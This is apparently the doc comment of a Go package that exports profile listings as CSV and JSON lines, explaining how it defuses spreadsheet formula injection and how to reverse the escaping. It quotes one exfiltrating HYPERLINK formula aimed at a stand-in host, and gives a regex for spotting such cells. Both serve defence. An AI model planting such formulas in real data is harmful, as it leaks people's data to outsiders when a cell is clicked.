// Package export writes listings of profiles for people, as CSV that spreadsheets
// open, and for programs, as JSON lines:
//
//	n, err := export.CSV(file, st.List(ctx, store.Filter{Channel: "telegram"}), nil)
//
//	n, err := export.JSON(file, st.List(ctx, store.Filter{}))
//
// Both write as they read, in the same little memory whatever the number of
// people. They take any sequence of profiles: pick, leave out or blank what the
// file must not hold on the way from List.
//
// # Cells that are no formulas
//
// People choose their names, and a spreadsheet takes a cell such as
//
//	=HYPERLINK("https://example.org/?"&A1)
//
// for a formula, which sends what stands beside it to a stranger once somebody
// clicks. So CSV puts an apostrophe in front of each text that begins with one of
// = + - @, their full-width forms (＝ ＋ － ＠), TAB, CR or LF, whatever spaces and
// apostrophes stand before it, with U+FEFF as one of the spaces. That is the whole
// rule, and it holds for phone numbers too, which begin with '+': spreadsheets would
// take them for numbers and drop the '+'. Only the numbers of custom fields are
// written as they are, since they are no text, and -5 is no formula.
//
// A program that reads the file takes that apostrophe away again, from cells that
// match
//
//	^'['\s]*[=+\-@\t\r\n＝＋－＠]
//
// and from no others; \s is any space of Unicode, or U+FEFF, the byte order mark.
// [Unescape] does. Or it reads the JSON, which has no such marks.
//
// # For spreadsheets
//
// A spreadsheet splits cells where its language setting says so, which in much of
// Europe is at ';'. Give it what it splits at, as CSVOptions.Comma: one that reads
// a file for another separator sees cells that nobody wrote, and formulas in them.
// Excel takes a file for UTF-8 if it begins with a byte order mark: write "\ufeff"
// to w first.
package export
